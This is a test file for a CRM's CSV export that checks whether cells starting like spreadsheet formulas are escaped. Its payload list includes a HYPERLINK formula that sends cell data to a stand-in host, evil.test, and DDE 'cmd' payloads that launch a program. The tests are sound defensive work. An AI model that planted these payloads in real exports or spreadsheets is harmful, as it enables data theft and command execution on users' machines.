import { spawn } from 'node:child_process';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { exportRows } from '../scripts/export';
import { csvCell } from '../scripts/lib/csv-cells';
import { apiKey, signUp, startTestApp, type SignedUp, type TestApp } from './helpers/app';

function sink(): Writable & { text(): string } {
  const chunks: string[] = [];
  const w = new Writable({
    write(chunk, _enc, done) {
      chunks.push(String(chunk));
      done();
    },
  });
  return Object.assign(w, { text: () => chunks.join('') });
}

/** Every start OWASP lists as one a spreadsheet reads as a formula, each with a payload behind it. */
const FORMULAS = [
  '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('a CSV cell as the export writes it', () => {
  it.each(FORMULAS)('quotes text that starts like a formula: %j', (text) => {
    expect(csvCell(text, false, true)).toBe(`'${text}`);
    expect(csvCell(text, true, true)).toBe(`'${text}`);
    expect(csvCell(text, false, false)).toBe(text);
  });

  it.each([
    [-12, true],
    [-12, false],
    ['-12', true],
    ['-0.5', true],
    ['-1234.5000', true],
  ])('keeps a plain negative number of a numeric column: %j', (value, numeric) => {
    expect(csvCell(value, numeric, true)).toBe(String(value));
  });

  it.each(['-12', '-1e3', '- 1', '-1,5'])('quotes text that looks numeric in a text column: %j', (text) => {
    expect(csvCell(text, false, true)).toBe(`'${text}`);
  });

  it.each(['plain', 'a=b', ' =1', '', '12', "'already"])('leaves other text as it is: %j', (text) => {
    expect(csvCell(text, false, true)).toBe(text);
  });
});

describe('export of a lead posted to the public intake', () => {
  let t: TestApp;
  let admin: SignedUp;
  let client: { url: string; token: string };

  beforeAll(async () => {
    t = await startTestApp();
    admin = await signUp(t, 'Formula Co');
    client = { url: `${t.url}/graphql`, token: (await apiKey(t, admin, ['READ'])).secret };
    const token = (await t.gql(`mutation { rotateIntakeToken }`, {}, admin.accessToken)).data.rotateIntakeToken;
    const post = await fetch(`${t.url}/intake/${token}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ firstName: FORMULAS[3], lastName: FORMULAS[0], company: FORMULAS[1], phone: FORMULAS[2], email: 'mallory@evil.test' }),
    });
    expect(post.status).toBe(201);
    // Names are trimmed on write (no tab first); numbers stay numbers.
    const r = await t.gql(
      `mutation { createAccount(input: { name: "=1+1", employees: 0, annualRevenue: { amount: "0", currency: "USD" } }) { id } }`,
      {},
      admin.accessToken,
    );
    expect(r.errors).toBeUndefined();
  });
  afterAll(() => t.close());

  const exportCsv = async (entity: string, escapeFormulas?: boolean) => {
    const out = sink();
    await exportRows(client, { entity, format: 'csv', out, quiet: true, escapeFormulas });
    const [header, ...rows] = parse(out.text(), { relaxQuotes: false }) as string[][];
    return rows.map((row) => Object.fromEntries(header.map((h, i) => [h, row[i]])));
  };

  it('quotes every formula cell by default', async () => {
    const [lead] = await exportCsv('leads');
    expect(lead).toMatchObject({
      lastName: `'${FORMULAS[0]}`,
      company: `'${FORMULAS[1]}`,
      phone: `'${FORMULAS[2]}`,
      firstName: `'${FORMULAS[3]}`,
      email: 'mallory@evil.test',
      status: 'NEW',
    });
    const [account] = await exportCsv('accounts');
    expect(account).toMatchObject({ name: "'=1+1", employees: '0', 'annualRevenue.amount': expect.stringMatching(/^0(\.0+)?$/) });
  });

  it('writes the cells as they are when asked to (escapeFormulas: false)', async () => {
    const [lead] = await exportCsv('leads', false);
    expect(lead).toMatchObject({ lastName: FORMULAS[0], company: FORMULAS[1], phone: FORMULAS[2], firstName: FORMULAS[3] });
  });

  it('the command line quotes by default and takes --no-escape-formulas', async () => {
    const run = (args: string[]) =>
      new Promise<string>((resolve, reject) => {
        const child = spawn(process.execPath, [join(__dirname, '../scripts/export.js'), '--entity', 'leads', ...args], {
          env: { PATH: process.env.PATH ?? '', TRELLIS_URL: client.url, TRELLIS_API_KEY: client.token },
        });
        let out = '';
        let err = '';
        child.stdout.on('data', (d) => (out += d));
        child.stderr.on('data', (d) => (err += d));
        child.on('close', (code) => (code === 0 ? resolve(out) : reject(new Error(err))));
      });
    const lastName = (csv: string) => {
      const [header, row] = parse(csv) as string[][];
      return row[header.indexOf('lastName')];
    };
    expect(lastName(await run([]))).toBe(`'${FORMULAS[0]}`);
    expect(lastName(await run(['--no-escape-formulas']))).toBe(FORMULAS[0]);
  });
});
